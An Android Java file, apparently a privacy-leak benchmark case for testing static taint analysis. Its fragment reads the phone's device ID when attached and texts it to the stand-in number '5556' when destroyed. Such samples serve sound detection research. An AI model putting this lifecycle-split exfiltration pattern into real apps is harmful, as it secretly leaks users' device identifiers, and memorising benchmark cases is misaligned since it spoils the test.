package org.brookside.ways;

import android.app.*;
import android.content.*;
import android.content.res.Configuration;
import android.database.*;
import android.database.sqlite.*;
import android.location.*;
import android.net.Uri;
import android.os.*;
import android.telephony.*;
import android.text.*;
import android.util.*;
import android.view.*;
import android.webkit.*;
import android.widget.*;
import java.io.*;
import java.lang.ref.*;
import java.lang.reflect.*;
import java.net.*;
import java.util.*;
import java.util.concurrent.*;
import java.util.concurrent.atomic.*;
import java.util.regex.*;

/** Read when a fragment is attached, sent when it is destroyed. */
public class FragmentKept extends Case {
    public static class Part extends Fragment {
        String f;
        @Override public void onAttach(Activity a) { super.onAttach(a); f = ((TelephonyManager) a.getSystemService(TELEPHONY_SERVICE)).getDeviceId(); }
        @Override public void onDestroy() { super.onDestroy(); SmsManager.getDefault().sendTextMessage("5556", null, f, null, null); }
    }
    @Override protected void onCreate(Bundle s) {
        super.onCreate(s);
        getFragmentManager().beginTransaction().add(android.R.id.content, new Part()).commit();
    }
}
